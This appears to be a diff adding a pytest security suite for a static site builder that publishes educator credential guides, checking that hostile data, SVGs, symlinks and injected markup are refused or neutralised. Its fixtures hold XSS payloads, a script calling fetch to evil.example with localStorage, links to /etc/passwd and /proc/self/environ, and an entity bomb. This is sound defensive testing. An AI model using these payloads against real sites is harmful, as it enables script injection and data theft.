@@ -1,0 +1,408 @@
+"""The trust boundary: what data, site.yml, docs/ and the cache may make the build or a page do.
+
+Every value a district's staff can edit or merge is untrusted. Each class of
+attack has several variants here, and each outcome is checked where it would
+land: the load's error, the built HTML and its policy, Chromium, the PDFs.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import re
+import shutil
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import ClassVar
+
+import pytest
+from playwright.sync_api import Browser, Page
+from test_hostile_input import CREDENTIAL, load_errors, set_field
+
+from conftest import CSP_VIOLATIONS, copy_project, mkdocs_build, serve
+from credential_guides.pdf import PdfJob, cached_pdf, is_cached, render_pdfs, site_only_fetcher
+from credential_guides.project_files import script_in_published_file
+from credential_guides.staging import check_writable
+
+SCRIPT_ADDRESSES = [
+    "javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "java&#9;script:alert(1)",
+    "javascript&colon;alert(1)",
+    " JAVASCRIPT:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    "vbscript:x",
+]
+OTHER_BAD_ADDRESSES = ["//evil.example/", "https:///no-host", "/\\evil.example/", "guide/"]
+
+
+def line_of(text: str, needle: str) -> int:
+    return text[: text.index(needle)].count("\n") + 1
+
+
+def replace_in(path: Path, old: str, new: str) -> int:
+    """Replace the first ``old`` in ``path`` by ``new``; returns its line."""
+    text = path.read_text(encoding="utf-8")
+    assert old in text, (path, old)
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    return line_of(text, old)
+
+
+URL_FIELDS = [
+    # (file, what is there, how to write a value, the field path in the error)
+    ("credentials_data/registries/citations.yml", "    - url: https://ohiofamiliesengage.osu.edu\n",
+     "    - url: {}\n", "citations[0].links[0].url"),
+    ("credentials_data/registries/stacks.yml", 'url: "http://creativecommons.org/licenses/by-nc-nd/4.0/"}',
+     "url: {}}}", "stacks[0].license.url"),
+    ("credentials_data/registries/stacks.yml", "    url: https://nea.certificationbank.com/\n",
+     "    url: {}\n", "stacks[0].submission_portal.url"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("address", SCRIPT_ADDRESSES + OTHER_BAD_ADDRESSES)
+@pytest.mark.parametrize(("file", "old", "new", "field"), URL_FIELDS)
+def test_every_address_field_takes_only_web_and_mail_addresses(
+    tmp_path: Path, file: str, old: str, new: str, field: str, address: str
+) -> None:
+    project = copy_project(tmp_path / "p")
+    line = replace_in(project / file, old, new.format(json.dumps(address)))
+    errors, _ = load_errors(project)
+    mine = [e for e in errors if e.startswith(f"{file}:{line}: ")]
+    assert len(mine) == 1, errors
+    message = mine[0].split(": ", 2)[2]
+    assert mine[0].split(": ", 2)[1].endswith(field.rsplit(".", 1)[-1]), mine[0]
+    assert message.startswith("expected "), message
+    assert "found" in message, message
+
+
+@pytest.mark.parametrize("address", SCRIPT_ADDRESSES)
+def test_a_script_address_in_a_markdown_link_is_refused_however_it_is_written(tmp_path: Path, address: str) -> None:
+    project = copy_project(tmp_path / "p")
+    path = project / CREDENTIAL
+    text, line = set_field(path.read_text(encoding="utf-8"), "key_method", f"See [the details]({address}).")
+    path.write_text(text, encoding="utf-8")
+    errors, _ = load_errors(project)
+    assert len(errors) == 1, errors
+    assert errors[0].startswith(f"{CREDENTIAL}:{line}: key_method: expected links to http(s) or mailto addresses only")
+
+
+@pytest.mark.parametrize(
+    "picture", ["http://127.0.0.1:9/track.png", "https://evil.example/a.png", "file:///etc/passwd"]
+)
+def test_a_picture_from_anywhere_but_the_site_is_refused(tmp_path: Path, picture: str) -> None:
+    project = copy_project(tmp_path / "p")
+    path = project / CREDENTIAL
+    text, line = set_field(path.read_text(encoding="utf-8"), "competency", f"Look ![map]({picture}) here.")
+    path.write_text(text, encoding="utf-8")
+    errors, _ = load_errors(project)
+    expected = f"{CREDENTIAL}:{line}: competency: expected a picture of this site (a path like 'assets/map.png')"
+    assert len(errors) == 1 and errors[0].startswith(expected), errors
+
+
+@pytest.mark.parametrize("where", ["credentials_data/local/stolen.yml", "credentials_data/stolen.yml"])
+def test_a_data_file_that_is_a_link_out_of_the_repository_is_refused(tmp_path: Path, where: str) -> None:
+    outside = tmp_path / "secret.yml"
+    outside.write_text("token: ghp_secret\n", encoding="utf-8")
+    project = copy_project(tmp_path / "p")
+    (project / where).parent.mkdir(parents=True, exist_ok=True)
+    os.symlink(outside, project / where)
+    errors, _ = load_errors(project)
+    assert errors == [
+        f"{where}:1: expected a file inside the project, found a symbolic link to {outside}, which is outside it"
+    ]
+
+
+def test_site_yml_as_a_link_out_of_the_repository_is_refused(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "p")
+    outside = tmp_path / "site.yml"
+    shutil.move(project / "site.yml", outside)
+    os.symlink(outside, project / "site.yml")
+    errors, _ = load_errors(project)
+    assert errors == [
+        f"site.yml:1: expected a file inside the project, found a symbolic link to {outside}, which is outside it"
+    ]
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">{}</svg>'
+
+
+@pytest.mark.parametrize(
+    ("inside", "found"),
+    [
+        ("<script>fetch('//evil.example/'+localStorage)</script>", "found a <script> element"),
+        ('<rect width="10" height="10" onload="alert(1)"/>', "found the event attribute onload= on <rect>"),
+        (
+            '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>',
+            "found a link to 'javascript:alert(1)'",
+        ),
+        ('<a href="https://evil.example/"><rect width="1" height="1"/></a>', "found a link to 'https://evil.example/'"),
+        ("<foreignObject><div>x</div></foreignObject>", "found a <foreignobject> element"),
+        ('<image href="http://127.0.0.1:9/x.png"/>', "found a link to 'http://127.0.0.1:9/x.png'"),
+        ("<style>@import url(https://evil.example/x.css);</style>", "found a style that loads an address"),
+    ],
+)
+def test_an_svg_that_could_run_script_or_load_anything_is_refused(tmp_path: Path, inside: str, found: str) -> None:
+    logo = tmp_path / "logo.svg"
+    logo.write_text(SVG.format(inside), encoding="utf-8")
+    problem = script_in_published_file(logo)
+    assert problem is not None and found in problem, problem
+
+
+def test_a_plain_svg_and_other_files_are_published(tmp_path: Path) -> None:
+    logo = tmp_path / "logo.svg"
+    logo.write_text(SVG.format('<use href="#a"/><circle id="a" r="4" fill="#303f9f"/>'), encoding="utf-8")
+    assert script_in_published_file(logo) is None
+    for name in ("photo.png", "guide.pdf", "notes.txt"):
+        (tmp_path / name).write_bytes(b"x")
+        assert script_in_published_file(tmp_path / name) is None
+    for name in ("page.html", "page.HTM", "x.xhtml", "x.svgz", "feed.xml"):
+        (tmp_path / name).write_bytes(b"<html></html>")
+        problem = script_in_published_file(tmp_path / name)
+        assert problem is not None and "write it as a Markdown page instead" in problem
+
+
+def test_an_svg_with_entities_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
+    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>'
+    (tmp_path / "bomb.svg").write_text(bomb, encoding="utf-8")
+    assert script_in_published_file(tmp_path / "bomb.svg") == (
+        "expected an SVG picture without script, links or declarations, found a <!DOCTYPE> or <!ENTITY>"
+    )
+
+
+class _Counting(http.server.BaseHTTPRequestHandler):
+    requests: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        _Counting.requests.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def counting_server() -> Iterator[str]:
+    _Counting.requests = []
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.slow
+def test_the_pdfs_read_only_the_sites_files_even_from_html_that_escaped_every_check(
+    tmp_path: Path, counting_server: str
+) -> None:
+    """Print HTML written past every check on purpose: the PDF renderer refuses each reference, fetches nothing."""
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "leak.txt").symlink_to("/etc/passwd")
+    hostile = (
+        "<html><body><p>Guide</p>"
+        '<a rel="attachment" href="file:///etc/passwd">a</a>'
+        '<a rel="attachment" href="leak.txt">b</a>'
+        '<a rel="attachment" href="/proc/self/environ">c</a>'
+        f'<img src="{counting_server}/image.png" alt="x"><img src="{counting_server.replace("http", "https")}/x.png">'
+        f'<link rel="stylesheet" href="{counting_server}/style.css"></body></html>'
+    )
+    job = PdfJob("pdf/hostile.pdf", "Hostile", hostile, docs.as_uri() + "/")
+    with pytest.raises(Exception) as raised:
+        render_pdfs([job], tmp_path / "cache", workers=1)
+    message = str(raised.value)
+    for refused in ("file:///etc/passwd", "leak.txt", "/proc/self/environ", "/image.png", "/style.css"):
+        assert refused in message, message
+    assert "a PDF may use only the site's own files under docs/" in message
+    assert _Counting.requests == []
+    assert not cached_pdf(job, tmp_path / "cache").exists()
+
+
+def test_the_pdf_fetcher_serves_files_under_docs_and_data_addresses(tmp_path: Path) -> None:
+    (tmp_path / "logo.png").write_bytes(b"\x89PNG")
+    fetcher = site_only_fetcher(tmp_path.as_uri() + "/")
+    for address, expected in (((tmp_path / "logo.png").as_uri(), b"\x89PNG"), ("data:text/plain,hello", b"hello")):
+        found = fetcher.fetch(address)
+        assert found.read() == expected
+        found.close()
+    for refused in ("file:///etc/hostname", "http://127.0.0.1:1/", "ftp://x/", (tmp_path / "..").as_uri()):
+        with pytest.raises(ValueError, match="a PDF may use only the site's own files"):
+            fetcher.fetch(refused)
+
+
+@pytest.mark.parametrize("kind", ["symlink", "folder"])
+def test_a_cache_entry_that_is_not_a_plain_file_is_never_taken(tmp_path: Path, kind: str) -> None:
+    job = PdfJob("pdf/x.pdf", "X", "<p>x</p>", tmp_path.as_uri() + "/")
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    entry = cached_pdf(job, cache)
+    if kind == "symlink":
+        secret = tmp_path / "secret"
+        secret.write_bytes(b"token")
+        entry.symlink_to(secret)
+        entry.with_suffix(".sha256").write_text("3c469e9d6c5875d37a43f353d4f88e61fcf812c66eee3457465a40b0da4153e0")
+    else:
+        entry.mkdir()
+    assert not is_cached(job, cache)
+    assert not entry.is_symlink() and not entry.is_dir()
+
+
+def test_a_site_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
+    blocker = tmp_path / "not-a-folder"
+    blocker.write_text("x", encoding="utf-8")
+    with pytest.raises(OSError) as raised:
+        check_writable(blocker / "site")
+    assert str(raised.value).startswith(f"{blocker / 'site'}: the site cannot be written here: ")
+    assert "\n" not in str(raised.value)
+
+
+# What a district's staff could paste into a title, a Markdown field and site.yml, and which is
+# accepted: it must reach every page as the text it is.
+MARKUP = "<script>window.cgInjected=1</script><img src=x onerror=window.cgInjected=2>\"' {: onclick=x} #"
+MARKDOWN_WITH_ATTRIBUTES = (
+    'Plan **the year**{: style="position:fixed;inset:0;z-index:9" } with <b onclick=x>families</b> '
+    '{: onclick="window.cgInjected=3" } &lt;img src=x onerror=alert(1)&gt;'
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
+    project = copy_project(tmp_path_factory.mktemp("hostile"))
+    stacks = project / "credentials_data/registries/stacks.yml"
+    replace_in(stacks, "  title: Family and Community Engagement", "  title: " + json.dumps("Family " + MARKUP))
+    path = project / CREDENTIAL
+    replace_in(path, "title: Family Engagement as Access", "title: " + json.dumps("Access " + MARKUP) + " #")
+    replace_in(path, "          title: Survey for families", "          title: " + json.dumps("Survey " + MARKUP))
+    text, _ = set_field(path.read_text(encoding="utf-8"), "competency", MARKDOWN_WITH_ATTRIBUTES)
+    path.write_text(text, encoding="utf-8")
+    settings = project / "site.yml"
+    replace_in(settings, "site_name: ", "site_name: " + json.dumps("Springfield " + MARKUP) + " #")
+    replace_in(settings, "how_to_submit: null", "how_to_submit: " + json.dumps(MARKDOWN_WITH_ATTRIBUTES))
+    (project / "docs" / "notes.md").write_text(
+        "# Notes &lt;img src=x onerror=window.cgInjected=4&gt;\n\nText.\n", encoding="utf-8"
+    )
+    result = mkdocs_build(project, project / "site", CG_PDF="0", CG_OFFLINE_ZIP="0")
+    assert result.returncode == 0, result.stderr
+    with serve(project / "site") as origin:
+        yield project / "site", origin
+
+
+GUIDE = "/family-community-engagement/family-engagement-access-opportunities/"
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("path", ["/", GUIDE, GUIDE + "templates/information-gathering-survey-handout/", "/notes/"])
+def test_markup_in_titles_and_markdown_is_text_on_every_page_in_the_browser(
+    hostile_site: tuple[Path, str], browser: Browser, path: str
+) -> None:
+    context = browser.new_context()
+    page = context.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.goto(hostile_site[1] + path)
+    page.wait_for_load_state("load")
+    assert page.evaluate("() => window.cgInjected") is None
+    assert dialogs == []
+    assert page.locator("[onclick], [onerror], [style*=fixed], img[src=x]").count() == 0
+    assert (
+        page.locator("script:not([src]):not([type])").evaluate_all(
+            "scripts => scripts.filter(s => s.textContent.includes('cgInjected')).length"
+        )
+        == 0
+    )
+    assert page.title().endswith("Springfield " + MARKUP), page.title()
+    assert "Springfield " + MARKUP in page.locator(".md-header__topic").first.inner_text()
+    assert "Family " + MARKUP in page.locator(".md-nav").first.inner_text()
+    if path == GUIDE:
+        assert page.locator("h1").inner_text() == "Access " + MARKUP
+        assert "Family " + MARKUP in page.locator(".md-tags").inner_text()
+        competency = page.locator("h2#competency + p").inner_text()
+        assert competency == (
+            'Plan the year{: style="position:fixed;inset:0;z-index:9" } with <b onclick=x>families</b> '
+            '{: onclick="window.cgInjected=3" } &lt;img src=x onerror=alert(1)&gt;'
+        )
+    if path.endswith("-handout/"):
+        assert page.title().startswith("Survey " + MARKUP + " — handout - "), page.title()
+    if path == "/notes/":
+        assert page.locator("h1").inner_text() == "Notes <img src=x onerror=window.cgInjected=4>"
+    origin = hostile_site[1]
+    assert [r for r in requests if not r.startswith(origin) and not r.startswith("data:")] == []
+    context.close()
+
+
+@pytest.mark.slow
+def test_the_hostile_site_policies_list_only_the_templates_hashes(hostile_site: tuple[Path, str]) -> None:
+    """No page's policy grew a hash for what the data held: the same hashes as the shipped site's pages."""
+    policies = set()
+    for html in hostile_site[0].rglob("*.html"):
+        match = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html.read_text(encoding="utf-8"))
+        assert match, html
+        policies.update(re.findall(r"'sha256-[^']+'", match.group(1)))
+        assert "unsafe-hashes" not in match.group(1) and "unsafe-inline" not in match.group(1)
+    assert 3 <= len(policies) <= 12, policies
+
+
+BYPASS = (
+    "<script>window.cgInjected=1</script>"
+    "<style>body{background:rgb(255, 0, 0) !important}</style>"
+    '<a id="cover" style="position:fixed;inset:0;background:rgb(0, 0, 255)" href="https://evil.example/">x</a>'
+)
+
+
+@pytest.mark.slow
+def test_the_policy_blocks_script_and_style_that_escaped_escaping(site: Path, page: Page, tmp_path: Path) -> None:
+    """Defence in depth: markup written into a built page after the build (as if escaping had failed)
+    neither runs nor styles anything."""
+    copy = tmp_path / "site"
+    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("pdf", "downloads", "pagefind"))
+    guide = copy / GUIDE.strip("/") / "index.html"
+    html = guide.read_text(encoding="utf-8")
+    guide.write_text(html.replace('<article class="md-content__inner md-typeset">', "<article>" + BYPASS, 1))
+    before = len(CSP_VIOLATIONS)
+    with serve(copy) as origin:
+        page.goto(origin + GUIDE)
+        page.wait_for_load_state("load")
+        page.wait_for_timeout(200)
+        assert page.evaluate("() => window.cgInjected") is None
+        assert page.evaluate("() => getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
+        assert page.evaluate("() => getComputedStyle(document.getElementById('cover')).position") != "fixed"
+    reported = CSP_VIOLATIONS[before:]
+    del CSP_VIOLATIONS[before:]  # expected here; any other test reporting one fails
+    assert any("script-src-elem blocked inline" in v for v in reported), reported
+    assert any("style-src-elem blocked inline" in v for v in reported), reported
+    assert any("style-src-attr blocked inline" in v for v in reported), reported
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("name", "content", "expected"),
+    [
+        ("docs/evil.html", "<script>alert(1)</script>", "docs/evil.html: expected Markdown pages (.md)"),
+        ("docs/assets/logo.svg", SVG.format("<script>alert(1)</script>"), "docs/assets/logo.svg: expected an SVG"),
+        ("docs/assets/passwd.txt", Path("/etc/passwd"), "docs/assets/passwd.txt: expected a file inside the project"),
+        ("docs/raw.md", "# Raw\n\n<script>alert(1)</script>\n", "raw.md: 1 inline script(s) that the site's"),
+    ],
+)
+def test_docs_that_would_publish_script_or_the_machines_files_stop_the_build(
+    tmp_path: Path, name: str, content: str | Path, expected: str
+) -> None:
+    project = copy_project(tmp_path / "p")
+    target = project / name
+    target.parent.mkdir(parents=True, exist_ok=True)
+    if isinstance(content, Path):
+        target.symlink_to(content)
+    else:
+        target.write_text(content, encoding="utf-8")
+    result = mkdocs_build(project, project / "site", CG_PDF="0", CG_OFFLINE_ZIP="0")
+    assert result.returncode != 0
+    assert expected in result.stderr, result.stderr
+    assert "Traceback" not in result.stderr
+    assert not (project / "site").exists()
